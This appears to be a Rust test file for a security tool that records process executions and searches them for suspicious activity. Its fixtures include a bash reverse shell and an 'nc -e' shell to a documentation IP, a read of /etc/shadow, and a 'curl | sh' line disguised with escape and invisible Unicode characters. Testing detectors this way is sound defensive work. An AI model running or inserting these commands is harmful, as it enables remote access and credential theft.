//! Executions found by plain words: what is asked for comes first, with its matching parts, ids that other commands take,
//! and nothing that a command line wrote.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::recording::{DAY, Folder, START, line, text, web_week};
use crate::support::{PROGRAM, Ran, run, settle, watch};

fn search(data: &Path, arguments: &[&str]) -> Ran {
    let mut command = Command::new(PROGRAM);
    settle(&mut command);
    run(command.arg("search").args(arguments).arg("--data").arg(data))
}

fn hits(data: &Path, arguments: &[&str]) -> Vec<Value> {
    let ran = search(data, &[arguments, &["--json"]].concat());
    let out = match ran.code() {
        Some(1) => "[]".to_owned(),
        _ => ran.succeeded().out,
    };
    serde_json::from_str(&out).unwrap_or_else(|error| panic!("{error}: {out}"))
}

fn commands(hits: &[Value]) -> Vec<&str> {
    hits.iter().map(|hit| hit["command"].as_str().expect("a command line")).collect()
}

const REVERSE_SHELL: &str = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

/// A database that knows two web servers, holds an attack on each, and has seen one of them connect.
fn database(folder: &Folder) -> PathBuf {
    let data = folder.path("data");
    let shell = line("web", "php-fpm", &["bash", "-c", REVERSE_SHELL]).at(7.0 * DAY);
    let theft = line("shop", "php-fpm", &["cat", "/etc/shadow"]).at(8.0 * DAY);
    let connect = serde_json::json!({
        "workload": "web", "time": START + 8.5 * DAY, "name": "nginx", "parent": "systemd", "uid": 33,
        "exe": "/usr/sbin/nginx", "kind": "connect", "object": "203.0.113.80:443", "flags": ["tcp"],
    });
    let lines = [web_week("web"), web_week("shop"), vec![shell, theft]].concat();
    let recording = folder.file("r.jsonl", format!("{}{connect}\n", text(&lines)));
    run(watch().arg("--replay").arg(recording).arg("--data").arg(&data)).succeeded();
    data
}

#[test]
fn the_articles_question_finds_the_articles_command() {
    let folder = Folder::new();
    let data = database(&folder);
    let hits = hits(&data, &["reverse", "shell", "bash", "outbound connection"]);
    let first = &hits[0];
    let command = first["command"].as_str().expect("a command line");
    assert_eq!(command, format!("bash -c {REVERSE_SHELL}"));
    assert_eq!((&first["workload"], &first["state"]), (&"web".into(), &"held".into()));
    assert!(first["relevance"].as_f64() > Some(0.9) && first["score"].as_f64() >= Some(0.85), "{first}");
    assert!(hits.iter().skip(1).all(|hit| hit["relevance"].as_f64() < Some(0.6)), "{hits:?}");
    assert_eq!(first["matches"][0]["term"], "reverse shell");
    assert_eq!(first["last_seen"].as_f64(), Some(START + 7.0 * DAY));
    let span = |span: &Value| {
        let at = |end: usize| usize::try_from(span[end].as_u64().expect("a number")).expect("a place");
        &command[at(0)..at(1)]
    };
    let marked: Vec<_> = first["spans"].as_array().expect("ranges").iter().map(span).collect();
    assert!(marked.contains(&"/dev/tcp/203.0.113.9/4444") && marked.contains(&"0>&1"), "{marked:?}");
}

#[test]
fn ids_are_those_of_other_commands() {
    let folder = Folder::new();
    let data = database(&folder);
    let table = search(&data, &["password hashes", "--limit", "1"]).succeeded().out;
    let id = table.lines().nth(1).and_then(|line| line.split(' ').next()).expect("an id");
    let mut explain = Command::new(PROGRAM);
    settle(&mut explain);
    let told = run(explain.args(["explain", id, "--data"]).arg(&data)).succeeded();
    assert!(told.out.contains("cat /etc/shadow"), "{told:?}");
    let mut deny = Command::new(PROGRAM);
    settle(&mut deny);
    run(deny.args(["deny", id, "--data"]).arg(&data)).succeeded();
    assert_eq!(commands(&hits(&data, &["credentials", "--state", "denied"])), ["cat /etc/shadow"]);
}

#[test]
fn what_is_asked_is_bounded_by_workload_state_time_and_number() {
    let folder = Folder::new();
    let data = database(&folder);
    let found = |arguments: &[&str]| hits(&data, &[&["sh", "bash", "cat"], arguments].concat()).len();
    let all = found(&[]);
    assert!(all >= 5, "{all}");
    assert_eq!(found(&["--workload", "web"]) + found(&["--workload", "sho?"]), all);
    assert_eq!((found(&["--state", "held"]), found(&["--state", "denied"])), (2, 0));
    assert_eq!(found(&["--state", "learned"]), all - 2);
    assert_eq!(found(&["--since", "2026-03-10T00:00:00Z"]), 1, "the theft was the last execution");
    assert_eq!(found(&["--until", "2026-03-01T00:00:00Z"]), 0);
    assert_eq!(found(&["--limit", "2"]), 2);
}

#[test]
fn other_acts_than_executions_are_found() {
    let folder = Folder::new();
    let data = database(&folder);
    let hits = hits(&data, &["nginx", "outbound", "connection"]);
    let first = &hits[0];
    assert_eq!(
        (&first["kind"], &first["object"]),
        (&"connect".into(), &"203.0.113.80:443".into()),
        "{first}"
    );
    assert_eq!(first["command"], "connect 203.0.113.80:443 tcp");
}

#[test]
fn what_cannot_be_looked_for_is_told() {
    let folder = Folder::new();
    let data = database(&folder);
    let nothing = search(&data, &["zebra-crossing"]);
    assert_eq!(nothing.code(), Some(1), "{nothing:?}");
    assert!(nothing.out.is_empty() && nothing.err.contains("nothing among"), "{nothing:?}");
    search(&data, &[&"x".repeat(2000)]).failed_with(&["2000 bytes", "1024 are the most"]);
    search(&data, &["\x1b\n"]).failed_with(&["the question is empty"]);
    search(&folder.path("nowhere"), &["bash"]).failed_with(&["nowhere", "name the directory of a database"]);
}

#[test]
fn on_a_terminal_it_fits_and_marks_and_is_not_fooled() {
    let folder = Folder::new();
    let data = folder.path("data");
    let hostile =
        "curl http://203.0.113.9/\x1b[2J\u{202e}gpj.exe | sh # \u{2062}not a mark\u{2063} <b>".to_owned();
    let long = format!("true {} | nc -e /bin/sh 203.0.113.9 4444", "x".repeat(900));
    let attacks =
        [&*hostile, &*long].map(|script| line("web", "php-fpm", &["sh", "-c", script]).at(7.0 * DAY));
    let recording = folder.recording("r.jsonl", &[web_week("web"), attacks.to_vec()].concat());
    run(watch().arg("--replay").arg(recording).arg("--data").arg(&data)).succeeded();
    for columns in [60, 100] {
        for colours in [true, false] {
            let mut command = Command::new("script");
            settle(&mut command);
            if !colours {
                command.env("NO_COLOR", "1");
            }
            let inner = format!(
                "stty cols {columns} rows 24; '{PROGRAM}' search download and run reverse shell --data '{}'",
                data.display()
            );
            command.args(["--quiet", "--return", "--command", &inner, "/dev/null"]);
            let drawn = run(&mut command).succeeded().out;
            let marks = drawn.matches("\x1b[1m\x1b[33m").count();
            assert_eq!(marks > 3, colours, "{drawn:?}");
            let plain = drawn.replace("\x1b[1m\x1b[33m", "").replace("\x1b[0m", "");
            let is_safe = |c: char| !c.is_control() || matches!(c, '\r' | '\n');
            assert!(plain.chars().all(is_safe), "{plain:?}");
            assert!(!plain.contains(['\u{202e}', '\u{2062}', '\u{2063}']), "{plain:?}");
            assert!(
                plain.lines().all(|line| line.trim_end().chars().count() <= columns),
                "{columns}:\n{plain}"
            );
            assert!(plain.contains("nc -e"), "the part that matters of a long line is shown:\n{plain}");
        }
    }
}

#[cfg(not(feature = "semantic"))]
#[test]
fn a_build_without_models_says_so() {
    let folder = Folder::new();
    let data = database(&folder);
    search(&data, &["bash", "--model", "/nowhere"]).failed_with(&["--features semantic", "leave", "--model"]);
}

#[cfg(feature = "semantic")]
pub(crate) mod semantic {
    use super::*;
    use crate::support::skipped;

    /// The model's directory, or a word that the test is skipped. In CI there has to be one.
    pub(crate) fn model_or_skip() -> Option<String> {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/get-minilm");
        let output = Command::new(script).output().expect("the script runs");
        if output.status.success() {
            return Some(String::from_utf8_lossy(&output.stdout).trim().to_owned());
        }
        let reason = String::from_utf8_lossy(&output.stderr).trim().replace('\n', "; ");
        skipped(&format!("no sentence model to search with: {reason}"));
        None
    }

    #[test]
    fn a_question_without_a_word_in_common_is_answered_and_what_was_read_is_kept() {
        let Some(model) = model_or_skip() else { return };
        let folder = Folder::new();
        let data = database(&folder);
        let asked = ["somebody looks into confidential login data", "--model", &model];
        assert!(hits(&data, &asked[..1]).is_empty(), "no word of it is anywhere");
        let found = hits(&data, &asked);
        assert_eq!(found[0]["command"], "cat /etc/shadow", "{found:?}");
        assert!(found[0]["meaning"].as_f64() > Some(0.3) && found[0]["relevance"].as_f64() > Some(0.1));
        let indexed = search(&data, &["--index", "--model", &model]).succeeded();
        assert!(
            indexed.err.contains("0 executions read") && indexed.err.contains("0 forgotten"),
            "{indexed:?}"
        );
        assert!(data.join("semantic").is_dir());

        let mut forget = Command::new(PROGRAM);
        settle(&mut forget);
        run(forget.args(["forget", "cat /etc/shadow", "--data"]).arg(&data)).succeeded();
        let indexed = search(&data, &["--index", "--model", &model]).succeeded();
        assert!(indexed.err.contains("1 forgotten"), "{indexed:?}");
        let words = hits(&data, &["reverse shell", "--model", &model]);
        assert_eq!(commands(&words)[0], format!("bash -c {REVERSE_SHELL}"));
    }

    #[test]
    fn only_the_model_that_was_meant_is_used() {
        let Some(model) = model_or_skip() else { return };
        let folder = Folder::new();
        let data = database(&folder);
        let missing = folder.path("empty");
        std::fs::create_dir(&missing).expect("a folder");
        let missing = missing.to_str().expect("a plain name");
        search(&data, &["bash", "--model", missing]).failed_with(&["config.json", "cannot be read"]);
        let digest = format!("tokenizer.json={}", "0".repeat(64));
        search(&data, &["bash", "--model", &model, "--digest", &digest])
            .failed_with(&["SHA-256", "search.digests"]);
    }
}
